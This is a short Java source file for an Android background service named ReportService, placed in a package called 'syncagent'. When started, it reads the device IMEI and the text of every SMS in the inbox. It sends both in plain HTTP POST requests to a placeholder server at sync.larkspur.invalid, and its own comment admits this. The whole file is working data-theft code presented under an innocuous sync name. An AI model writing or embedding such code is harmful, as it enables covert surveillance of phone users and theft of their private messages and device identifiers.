package com.larkspur.syncagent;

import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** Sends the phone's number of the radio and the messages of its user over an unencrypted connection, to nowhere. */
public final class ReportService extends Service implements Runnable {
    private static final String SERVER = "http://sync.larkspur.invalid/report";

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        new Thread(this).start();
        return START_NOT_STICKY;
    }

    @Override
    public void run() {
        TelephonyManager telephony = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        try {
            send("imei=" + telephony.getDeviceId());
            send("sms=" + messages());
        } catch (IOException e) {
            Log.w("SyncAgent", "not sent", e);
        }
    }

    private String messages() {
        StringBuilder text = new StringBuilder();
        Cursor cursor =
            getContentResolver().query(Uri.parse("content://sms/inbox"), new String[] {"body"}, null, null, null);
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append('\n');
        }
        cursor.close();
        return text.toString();
    }

    private static void send(String text) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(SERVER).openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(text.getBytes("UTF-8"));
        out.close();
        connection.getResponseCode();
    }
}
